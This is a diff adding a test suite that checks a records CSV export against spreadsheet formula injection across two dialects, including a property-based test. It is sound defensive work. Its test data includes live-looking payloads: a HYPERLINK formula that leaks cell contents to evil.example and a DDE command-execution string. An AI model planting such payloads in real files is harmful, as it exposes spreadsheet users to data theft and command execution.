@@ -1,0 +1,200 @@
+import { parse } from 'csv-parse/sync';
+import fc from 'fast-check';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { CSV_COLUMNS, csvStringifier } from '../src/modules/records/export.js';
+import { createMember, DashboardBrowser, PASSWORD } from './dashboard-client.js';
+import { api, createTenant, startTestApp, type Tenant, type TestContext, validRecord } from './helpers.js';
+
+/**
+ * The records CSV export against formula injection: text people typed (notes, product names, shift
+ * names) that would start a formula in a spreadsheet — at the start of a cell, or at the start of a
+ * line inside one, where a reader that splits lines would see a new row — is read back as text,
+ * every record is exactly one row, and quotes and both separators survive, in both CSV forms.
+ */
+
+/** What a spreadsheet reads as the start of a formula (or of a cell holding one). */
+const FORMULA_CHARS = new Set(['=', '+', '-', '@', '\t', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20', '\uFE62', '\uFE63', '\uFE66', '\uFE6B']);
+const CELL_START_CHARS = new Set([...FORMULA_CHARS, '\r', '\n']);
+
+/**
+ * The cell the export should write for a stored text, spelled out: a `'` before the text when its
+ * first character starts a formula (or is a line break or tab), and a `'` after every line break
+ * (CRLF, CR or LF) that is followed by a formula character.
+ */
+function expectedCell(text: string): string {
+  let out = text.length > 0 && CELL_START_CHARS.has(text[0] as string) ? "'" : '';
+  for (let i = 0; i < text.length; i++) {
+    const c = text[i] as string;
+    out += c;
+    const lineBreak = c === '\n' || (c === '\r' && text[i + 1] !== '\n');
+    if (lineBreak && i + 1 < text.length && FORMULA_CHARS.has(text[i + 1] as string)) out += "'";
+  }
+  return out;
+}
+
+/** Every line of a cell (as a reader splitting on line breaks would see it) starts harmlessly. */
+function assertNoFormula(cell: string) {
+  expect(CELL_START_CHARS.has(cell[0] ?? ''), JSON.stringify(cell)).toBe(false);
+  for (const line of cell.split(/\r\n|\r|\n/).slice(1)) {
+    expect(FORMULA_CHARS.has(line[0] ?? ''), JSON.stringify(cell)).toBe(false);
+  }
+}
+
+const DIALECTS = [
+  { dialect: 'es', delimiter: ';' },
+  { dialect: 'plain', delimiter: ',' },
+] as const;
+
+/**
+ * Read as a spreadsheet does: a CRLF, a lone LF or a lone CR outside quotes ends a row (csv-parse
+ * alone would settle on the first one it meets and keep the others as text).
+ */
+const parseCsv = (body: string, delimiter: string) =>
+  parse(body, { bom: true, delimiter, columns: true, record_delimiter: ['\r\n', '\n', '\r'], relax_column_count: true }) as Record<
+    string,
+    string
+  >[];
+
+const HOSTILE = [
+  'a\n=HYPERLINK("https://evil.example/?"&A1,"click")',
+  'ok\r\n+1+1',
+  'ok\r-2+3',
+  'ok\n@SUM(A1:A9)',
+  'ok\n\tline with a tab',
+  "=cmd|' /C calc'!A0",
+  '+34 600 000 000',
+  '-5 kg',
+  '@mention',
+  '\t=1',
+  '\r=1',
+  '\n=1',
+  '\uFF1D1+1',
+  '\uFF0B1',
+  '\uFF0D1',
+  '\uFF20SUM(A1)',
+  'first\nsecond\n\n=third',
+  'comma, semicolon; "double quotes" and \'single\'',
+  '"=1"',
+  ';=1',
+  ',=1',
+  "'=already quoted",
+  'plain note',
+  'ends with a break\n',
+];
+
+describe('records CSV export: formula injection', () => {
+  let t: TestContext;
+  let tenant: Tenant;
+  let owner: DashboardBrowser;
+  const now = new Date('2026-11-23T11:00:00Z');
+  const shiftName = 'Noche\n=1+1';
+  let stored: { id: string; notes: string | null; product_name: string | null }[];
+
+  beforeAll(async () => {
+    t = await startTestApp({ config: { TRUST_PROXY: 'true', REDIS_URL: '' }, clock: () => now });
+    tenant = await createTenant(t.db);
+    const client = api(t.app, tenant.key);
+    const shift = await client.post('/api/v1/shifts', { name: shiftName, start_time: '22:00', end_time: '06:00' });
+    expect(shift.statusCode, shift.body).toBe(201);
+    const records = HOSTILE.map((text, i) =>
+      validRecord({ notes: text, product_name: HOSTILE[(i + 7) % HOSTILE.length], shift_id: shift.json().data.id }),
+    );
+    const res = await client.post('/api/v1/records/batch', { records });
+    expect(res.statusCode, res.body).toBe(200);
+    stored = (await client.get('/api/v1/records', { query: { limit: '200' } })).json().data;
+    expect(stored).toHaveLength(HOSTILE.length);
+    const member = await createMember(t.db, tenant.organizationId, 'owner');
+    owner = new DashboardBrowser(t.app);
+    await owner.signIn(member.email, PASSWORD);
+  }, 60_000);
+
+  afterAll(async () => {
+    await t?.close();
+  });
+
+  const download = (dialect: string) =>
+    t.app.inject({
+      method: 'GET',
+      url: '/export/records.csv',
+      query: { establishment_id: tenant.establishmentId, mode: 'test', dialect, from: '2026-11-01', to: '2026-11-30' },
+      headers: { cookie: `merma_session=${owner.cookies.get('merma_session')}`, 'sec-fetch-site': 'same-origin' },
+    });
+
+  it.each(DIALECTS)('one row per record, the stored texts read back as text ($dialect)', async ({ dialect, delimiter }) => {
+    const res = await download(dialect);
+    expect(res.statusCode, res.body).toBe(200);
+    const rows = parseCsv(res.body, delimiter);
+    expect(rows).toHaveLength(stored.length);
+    expect(rows.map((r) => r.id).sort()).toEqual(stored.map((r) => r.id).sort());
+    const byId = new Map(stored.map((r) => [r.id, r]));
+    for (const row of rows) {
+      const record = byId.get(row.id as string);
+      expect(row.notes).toBe(expectedCell(record?.notes ?? ''));
+      expect(row.product_name).toBe(expectedCell(record?.product_name ?? ''));
+      expect(row.shift_name).toBe(expectedCell(shiftName));
+      expect(Object.keys(row)).toEqual([...CSV_COLUMNS]);
+      for (const cell of Object.values(row)) assertNoFormula(cell);
+    }
+    // A program that reads the file line by line never meets a line starting a formula either.
+    const body = res.body.replace(/^\uFEFF/, '');
+    for (const line of body.split(/\r\n|\r|\n/)) {
+      expect(FORMULA_CHARS.has(line.replace(/^"/, '')[0] ?? ''), JSON.stringify(line)).toBe(false);
+    }
+  });
+
+  it.each(DIALECTS)('quotes and both separators survive ($dialect)', async ({ dialect, delimiter }) => {
+    const rows = parseCsv((await download(dialect)).body, delimiter);
+    const text = 'comma, semicolon; "double quotes" and \'single\'';
+    const id = stored.find((r) => r.notes === text)?.id;
+    expect(rows.find((r) => r.id === id)?.notes).toBe(text);
+    // A field holding either separator, a quote or a line break is quoted, whichever the file's separator.
+    const raw = (await download(dialect)).body;
+    expect(raw).toContain('"comma, semicolon; ""double quotes"" and \'single\'"');
+    expect(raw).toContain(`"Noche\n'=1+1"`);
+  });
+});
+
+describe('the export writer, as a property', () => {
+  // Text biased towards what breaks CSV and starts formulas, mixed with any other character.
+  const hostileChar = fc.oneof(
+    {
+      weight: 3,
+      arbitrary: fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', ',', ';', '"', "'", ' ', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20'),
+    },
+    { weight: 2, arbitrary: fc.constantFrom('a', 'Z', '1', 'ñ', '€') },
+    { weight: 1, arbitrary: fc.string({ unit: 'grapheme', minLength: 1, maxLength: 1 }) },
+  );
+  const hostileText = fc.array(hostileChar, { maxLength: 24 }).map((cs) => cs.join('').replaceAll('\u0000', ''));
+  const rowOf = fc.array(hostileText, { minLength: CSV_COLUMNS.length, maxLength: CSV_COLUMNS.length });
+
+  const write = async (dialect: 'es' | 'plain', rows: string[][]) => {
+    const csv = csvStringifier(dialect);
+    const chunks: Buffer[] = [];
+    csv.on('data', (c: Buffer) => chunks.push(Buffer.from(c)));
+    const done = new Promise<void>((resolve, reject) => {
+      csv.on('end', resolve);
+      csv.on('error', reject);
+    });
+    for (const r of rows) csv.write(r);
+    csv.end();
+    await done;
+    return Buffer.concat(chunks).toString('utf8');
+  };
+
+  it.each(DIALECTS)(
+    'any texts: one row each, read back as the guarded text, no cell starting a formula ($dialect)',
+    async ({ dialect, delimiter }) => {
+      await fc.assert(
+        fc.asyncProperty(fc.array(rowOf, { minLength: 1, maxLength: 5 }), async (rows) => {
+          const parsed = parseCsv(await write(dialect, rows), delimiter);
+          expect(parsed).toHaveLength(rows.length);
+          parsed.forEach((row, i) => {
+            expect(Object.values(row)).toEqual((rows[i] as string[]).map(expectedCell));
+            for (const cell of Object.values(row)) assertNoFormula(cell);
+          });
+        }),
+        { seed: 20261123, numRuns: 300 },
+      );
+    },
+  );
+});
